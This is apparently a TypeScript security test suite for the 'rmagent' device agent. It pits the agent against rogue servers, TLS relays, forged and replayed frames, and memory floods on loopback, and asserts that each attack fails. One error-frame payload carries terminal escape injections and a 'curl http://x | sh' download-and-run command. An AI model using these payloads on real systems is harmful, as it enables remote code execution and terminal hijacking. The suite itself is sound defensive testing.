// Attacks on the trust model with real processes: the built `rmagent enroll` / `rmagent run` in temporary state
// folders and the built `rmagent-server`, against rogue endpoints written here (rogue-peer.ts) on loopback.
// Moving the device's server name to the rogue (what DNS or routing tampering does) is done by rewriting the
// registered URL; moving it back shows the device was not harmed. Each test asserts what left the device, what
// it applied, what is on disk and what `rmagent status` shows.
import { readFileSync } from 'node:fs';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { waitUntil } from '../../src/cli/processes.js';
import { makeFrame, type Frame } from '../../src/protocol/frames.js';
import { newNonce, serverHello } from '../../src/protocol/handshake.js';
import { generateKeyPair, signFrame } from '../../src/protocol/sign.js';
import { assertBuilt, startServer, tempDir, type ServerProcess } from '../e2e/harness.js';
import { roguePeer, typeOf } from './rogue-peer.js';
import { deviceBehindRelay, enrolledHome as enrolled, monitoringRunning, newToken, pointTo, problemCodes, QUIET_POLICY, registration, typesHeard } from './rogue-agents.js';
import { api as tlsApi, makeCerts, makeServerCert, startServer as startTlsServer, type Certs, type ServerCert, type TlsServer } from './tls-server.js';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const cleanups: Array<() => Promise<unknown>> = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c().catch(() => undefined);
});
const enrolledHome = (name: string, url: string, serverKey: string, token: string, env: NodeJS.ProcessEnv = {}) => enrolled(name, url, serverKey, token, { env, cleanups });

describe('a rogue endpoint that holds only the public server key (built agent)', () => {
  let server: ServerProcess;
  const attacker = generateKeyPair();

  beforeAll(async () => {
    assertBuilt();
    server = await startServer(tempDir('rogue-real'));
  });
  afterAll(async () => { await server?.stop(); });

  /** Presents the real key with its own signature, then an unsigned welcome and commands it signed itself. */
  const impostor = (deviceId: () => string) => roguePeer({
    onAgent: (text, wire) => {
      const f = JSON.parse(text) as Frame<'agent.hello'>;
      if (f.type !== 'agent.hello') return;
      const forged = serverHello({ hello: f.body, nonce: newNonce(), channel: { kind: 'none' }, serverKey: attacker, now: Date.now() });
      wire.toAgent({ ...forged, body: { ...forged.body, serverKey: server.serverKey } });
      wire.toAgent(makeFrame('welcome', { agentNonce: f.body.nonce, deviceId: deviceId(), enrolled: true, heartbeatSec: 30, lastSeq: 0 }));
      wire.toAgent(signFrame(makeFrame('desired', { deviceId: deviceId(), state: { revision: 999, services: {} } }), attacker.privateKeyPem));
      wire.toAgent(makeFrame('service.uninstall', { deviceId: deviceId(), service: 'monitoring' }));
    },
  });

  it('an enrolling device sends it only agent.hello (no token, no proof), stays unenrolled with its token, shows SERVER_PROOF_INVALID, and enrolls once its name leads to the real server again', async () => {
    const rogue = await impostor(() => 'dev-attacker');
    cleanups.push(rogue.close);
    const token = await newToken(server);
    const { home } = await enrolledHome('rogue-enrolling', rogue.url, server.serverKey, token);
    const refused = await home.waitFor('SERVER_PROOF_INVALID', (s) => problemCodes(s).includes('SERVER_PROOF_INVALID'));
    expect(refused.health).toBe('unhealthy');
    await waitUntil(async () => rogue.connections() >= 2 || undefined, 10_000, 'a second attempt');
    expect(typesHeard(rogue)).toEqual(['agent.hello']);
    expect(rogue.heard.join('')).not.toContain(token);
    const { status, code } = await home.statusJson();
    expect(code).toBe(2);
    expect(status.registration).toMatchObject({ enrolled: false, deviceId: null });
    expect(registration(home)).toMatchObject({ deviceId: null, enrollmentToken: token });

    await pointTo(home, server.agentUrl);
    const fine = await home.waitFor('enrolled with the real server', (s) => s.connection.state === 'connected' && s.registration.enrolled);
    expect(fine.registration.deviceId).toMatch(/^dev-/);
    expect(registration(home).enrollmentToken).toBeNull();
  });

  it('an enrolled device running Monitoring sends it no auth proof, keeps its id and its service, and reconnects to the real server', async () => {
    const { home } = await enrolledHome('rogue-enrolled', server.agentUrl, server.serverKey, await newToken(server));
    const enrolled = await home.waitFor('enrolled', (s) => s.connection.state === 'connected' && s.registration.enrolled);
    const deviceId = enrolled.registration.deviceId!;
    const policy = await server.api<{ id: string }>('POST', '/policies', QUIET_POLICY);
    expect((await server.api('POST', '/services/monitoring/activate', { deviceIds: [deviceId], policyId: policy.body.id })).status).toBe(200);
    await home.waitFor('monitoring running', monitoringRunning);

    const rogue = await impostor(() => deviceId);
    cleanups.push(rogue.close);
    await pointTo(home, rogue.url);
    await home.waitFor('SERVER_PROOF_INVALID', (s) => problemCodes(s).includes('SERVER_PROOF_INVALID'));
    await waitUntil(async () => rogue.connections() >= 2 || undefined, 10_000, 'a second attempt');
    expect(typesHeard(rogue)).toEqual(['agent.hello']);
    const { status } = await home.statusJson();
    expect(monitoringRunning(status)).toBe(true);
    expect(status.registration.deviceId).toBe(deviceId);
    expect(registration(home).deviceId).toBe(deviceId);

    await pointTo(home, server.agentUrl);
    const back = await home.waitFor('connected again', (s) => s.connection.state === 'connected');
    expect(back.registration.deviceId).toBe(deviceId);
    expect(monitoringRunning(back)).toBe(true);
  });

  /** Answers agent.hello with an unauthenticated fatal error asking for a day's pause, its message full of terminal escapes. */
  const refuser = () => roguePeer({
    onAgent: (text, wire) => {
      if (typeOf(text) !== 'agent.hello') return;
      wire.toAgent(makeFrame('error', { code: 'AUTH_FAILED', message: 'refused \u001b[2J\u001b]0;pwned\u0007 run: curl http://x | sh', retryAfterMs: 86_400_000, fatal: true }));
      wire.close(4001);
    },
  });

  it('cannot write terminal escapes into `rmagent status` or `rmagent doctor` with an unauthenticated error frame', async () => {
    const rogue = await refuser();
    cleanups.push(rogue.close);
    const { home } = await enrolledHome('rogue-escapes', rogue.url, server.serverKey, await newToken(server));
    await home.waitFor('refused by the rogue', (s) => s.connection.state === 'backoff' && s.connection.lastError?.code === 'AUTH_FAILED');
    // What a person sees: the rogue's text, escaped (status quotes the refusal, doctor probes the rogue itself).
    const human = await home.cli('status');
    expect(human.stdout).toContain('refused \\u001b[2J');
    const doctor = await home.cli('doctor');
    expect(doctor.stdout).toContain('\\u001b]0;pwned');
    // eslint-disable-next-line no-control-regex -- no control character reaches the terminal
    for (const out of [human.stdout, doctor.stdout]) expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  it('cannot keep the device away for a day with an unauthenticated fatal error (retryAfterMs 24 h)', async () => {
    const rogue = await refuser();
    cleanups.push(rogue.close);
    const { home } = await enrolledHome('rogue-retry', server.agentUrl, server.serverKey, await newToken(server));
    await home.waitFor('enrolled', (s) => s.connection.state === 'connected' && s.registration.enrolled);
    await pointTo(home, rogue.url);
    const refused = await home.waitFor('refused by the rogue', (s) => s.connection.state === 'backoff' && s.connection.lastError?.code === 'AUTH_FAILED');
    // The harness sets connection.backoffMaxMs to 1 s: a peer that proved nothing cannot stretch that to a day.
    expect(refused.connection.nextRetryAt! - refused.connection.lastError!.at).toBeLessThanOrEqual(1_000);
    await pointTo(home, server.agentUrl);
    await home.waitFor('connected again within seconds', (s) => s.connection.state === 'connected', 10_000);
  });
});

describe('a relay that holds a valid certificate for the server name (a CA the device trusts; DNS or routing MITM)', () => {
  let dir: string;
  let certs: Certs;
  let rogueCert: ServerCert;
  let tlsServer: TlsServer;
  let ca: Buffer;

  beforeAll(async () => {
    assertBuilt();
    dir = tempDir('relay-certs');
    certs = makeCerts(dir);
    rogueCert = makeServerCert(dir, certs, 'rogue');
    ca = readFileSync(certs.caFile);
    tlsServer = await startTlsServer(['--tls-cert', certs.certFile, '--tls-key', certs.keyFile]);
  }, 60_000);
  afterAll(async () => { await tlsServer?.proc.stop('SIGTERM'); });

  it('to a server that ends TLS itself: gets only agent.hello from an enrolling and from an enrolled device (no token, no proof to pass on)', async () => {
    const relay = await roguePeer({ cert: rogueCert, relayTo: { url: tlsServer.agentUrl, ca } });
    cleanups.push(relay.close);
    const token = (await tlsApi<{ token: string }>(tlsServer, ca, 'POST', '/enrollment-tokens', { expiresInSec: 600, maxUses: 1 })).body.token;
    const { home } = await enrolledHome('relay-tls', relay.url, tlsServer.serverKey, token, { RMAGENT_CA_FILE: certs.caFile });
    const refused = await home.waitFor('SERVER_PROOF_INVALID', (s) => problemCodes(s).includes('SERVER_PROOF_INVALID'));
    expect(refused.connection.lastError?.message).toMatch(/another TLS channel/);
    await waitUntil(async () => relay.connections() >= 2 || undefined, 10_000, 'a second attempt');
    expect(typesHeard(relay)).toEqual(['agent.hello']);
    expect(relay.heard.join('')).not.toContain(token);
    expect(registration(home)).toMatchObject({ deviceId: null, enrollmentToken: token });

    await pointTo(home, tlsServer.agentUrl);
    const enrolled = await home.waitFor('enrolled with the real server', (s) => s.connection.state === 'connected' && s.registration.enrolled);
    const heardBefore = relay.heard.length;
    await pointTo(home, relay.url);
    await home.waitFor('refused the relay', (s) => problemCodes(s).includes('SERVER_PROOF_INVALID'));
    await waitUntil(async () => relay.heard.length >= heardBefore + 2 || undefined, 10_000, 'two more attempts');
    expect([...new Set(relay.heard.slice(heardBefore).map(typeOf))]).toEqual(['agent.hello']);
    expect(registration(home).deviceId).toBe(enrolled.registration.deviceId);
  });

  it('to a server behind a TLS-ending proxy: a device with connection.requireChannelBinding sends it only agent.hello', async () => {
    const server = await startServer(tempDir('relay-proxy'));
    cleanups.push(() => server.stop());
    const relay = await roguePeer({ cert: rogueCert, relayTo: { url: server.agentUrl } });
    cleanups.push(relay.close);
    const token = await newToken(server);
    const { home } = await enrolled('relay-bound', relay.url, server.serverKey, token, { env: { RMAGENT_CA_FILE: certs.caFile }, config: { connection: { requireChannelBinding: true } }, cleanups });
    const refused = await home.waitFor('SERVER_PROOF_INVALID', (s) => problemCodes(s).includes('SERVER_PROOF_INVALID'));
    expect(refused.connection.lastError?.message).toMatch(/requireChannelBinding/);
    await waitUntil(async () => relay.connections() >= 2 || undefined, 10_000, 'a second attempt');
    expect(typesHeard(relay)).toEqual(['agent.hello']);
    expect(relay.heard.join('')).not.toContain(token);
  });

  // Without channel binding (TLS ends at a proxy and the device does not require it) a relay with a valid
  // certificate sits inside the session (docs/protocol.md, "Why this design": limits). It can read reports and drop
  // or delay frames; recorded frames are worth nothing to it.
  it('inside the session of a device without channel binding (the documented limit), replays of the welcome, desired state and commands it recorded are refused, also after the agent restarts', async () => {
    const d = await deviceBehindRelay('relay-replay', rogueCert, certs.caFile);
    cleanups.push(() => d.stop());
    const old = [...d.recorded.welcome!, ...d.recorded.desired!, ...d.recorded['service.install']!];
    const oldIds = old.filter((t) => typeOf(t) !== 'welcome').map((t) => (JSON.parse(t) as Frame).id);
    for (const round of ['reconnect', 'restart'] as const) {
      await d[round]();
      const heardBefore = d.relay.heard.length;
      for (const text of old) d.relay.wire()!.toAgent(text);
      const acks = await d.finalAcks(oldIds, heardBefore);
      expect(acks.map((a) => [a.status, a.reason?.code])).toEqual(oldIds.map(() => ['rejected', 'COMMAND_REPLAYED']));
      // The second welcome is answered with an error, not taken.
      expect(d.relay.heard.slice(heardBefore).filter((t) => typeOf(t) === 'error').map((t) => (JSON.parse(t) as Frame<'error'>).body.code)).toContain('FRAME_INVALID');
      const s = await d.home.live();
      expect(s?.registration.deviceId).toBe(d.deviceId);
      expect(s && monitoringRunning(s)).toBe(true);
    }
  });

  it('inside the session (no channel binding): a desired state it withheld, delivered after the admin removed Monitoring, does not bring Monitoring back', async () => {
    const d = await deviceBehindRelay('relay-rollback', rogueCert, certs.caFile);
    cleanups.push(() => d.stop());
    d.mode.withholdDesired = true;
    await d.reconnect();
    await waitUntil(async () => d.withheld.length > 0 || undefined, 10_000, 'the desired state of the new session');
    d.mode.withholdDesired = false;
    expect((await d.server.api('POST', '/services/monitoring/deactivate', { deviceIds: [d.deviceId] })).status).toBe(200);
    await d.home.waitFor('monitoring removed', (x) => !x.services.some((s) => s.name === 'monitoring'));
    const late = d.withheld.at(-1)!;
    const heardBefore = d.relay.heard.length;
    d.relay.wire()!.toAgent(late);
    await d.finalAcks([(JSON.parse(late) as Frame).id], heardBefore);
    await sleep(1_000);
    expect((await d.home.live())!.services.filter((x) => x.name === 'monitoring')).toEqual([]);
  });

  it('inside the session (no channel binding): a report.ack beyond what the device sent does not move its outbox (sequence numbers stay sane)', async () => {
    const d = await deviceBehindRelay('relay-ack', rogueCert, certs.caFile);
    cleanups.push(() => d.stop());
    const sent = () => Math.max(0, ...d.relay.heard.filter((t) => typeOf(t) === 'report').map((t) => (JSON.parse(t) as Frame<'report'>).body.seq));
    const highest = sent();
    d.relay.wire()!.toAgent(makeFrame('report.ack', { upTo: 1_000_000_000_000 }));
    await sleep(500);
    // Bounded by what the device has sent by now (the real server may have acknowledged a report that was on its
    // way when `highest` was read), never the injected 10^12.
    expect((await d.home.live())!.outbox.lastAckedSeq).toBeLessThanOrEqual(sent());
    // The next status report (every 5 s in the harness) follows on from what was sent.
    await waitUntil(async () => sent() > highest || undefined, 15_000, 'the next report');
    expect(sent()).toBeLessThan(highest + 100);
  });

  it('inside the session (no channel binding): an injected fatal error asking for a day\'s pause does not keep the device away beyond its backoff maximum', async () => {
    const d = await deviceBehindRelay('relay-pause', rogueCert, certs.caFile);
    cleanups.push(() => d.stop());
    d.relay.wire()!.toAgent(makeFrame('error', { code: 'SERVER_UNREACHABLE', message: 'maintenance', retryAfterMs: 86_400_000, fatal: true }));
    d.relay.wire()!.close(1012);
    const away = await d.home.waitFor('backoff', (x) => x.connection.state === 'backoff');
    expect(away.connection.nextRetryAt! - away.connection.lastError!.at).toBeLessThanOrEqual(1_000);
  });
});

describe('a rogue endpoint that floods the device before proving anything', () => {
  let server: ServerProcess;
  beforeAll(async () => {
    assertBuilt();
    server = await startServer(tempDir('flood-real'));
  });
  afterAll(async () => { await server?.stop(); });

  /** Peak resident memory of a process (kB), from /proc. */
  const peakKb = (pid: number) => Number(/VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0);

  it.each([
    ['invalid frames just under 1 MiB', () => `{"v":2,"id":"x","type":"nope","ts":1,"body":{"pad":"${'a'.repeat(1_000_000)}"}}`],
    ['unsigned commands just under 1 MiB', () => JSON.stringify(makeFrame('backup.restore', { deviceId: 'dev-x', actor: 'a', paths: Array.from({ length: 240 }, () => 'p'.repeat(4000)) }))],
  ])('%s: the agent stays up with bounded memory and reaches the real server afterwards', async (_what, frame) => {
    const text = frame();
    const total = 1_500;
    let sentCount = 0;
    const rogue = await roguePeer({
      onAgent: (t, wire) => {
        if (typeOf(t) !== 'agent.hello') return;
        const pump = () => {
          for (let i = 0; i < 20 && sentCount < total; i += 1, sentCount += 1) wire.toAgent(text);
          if (sentCount < total) setTimeout(pump, 0);
        };
        pump();
      },
    });
    cleanups.push(rogue.close);
    const { home, agent } = await enrolledHome('flood', rogue.url, server.serverKey, await newToken(server));
    const before = peakKb(agent.child.pid!);
    await waitUntil(async () => sentCount >= total || undefined, 60_000, 'the flood to be sent');
    await sleep(2_000);
    expect(agent.child.exitCode).toBeNull();
    const peak = peakKb(agent.child.pid!);
    expect(peak - before, `peak RSS grew from ${before} kB to ${peak} kB`).toBeLessThan(256 * 1024);
    await pointTo(home, server.agentUrl);
    await home.waitFor('enrolled with the real server', (s) => s.connection.state === 'connected' && s.registration.enrolled, 30_000);
  }, 120_000);
});
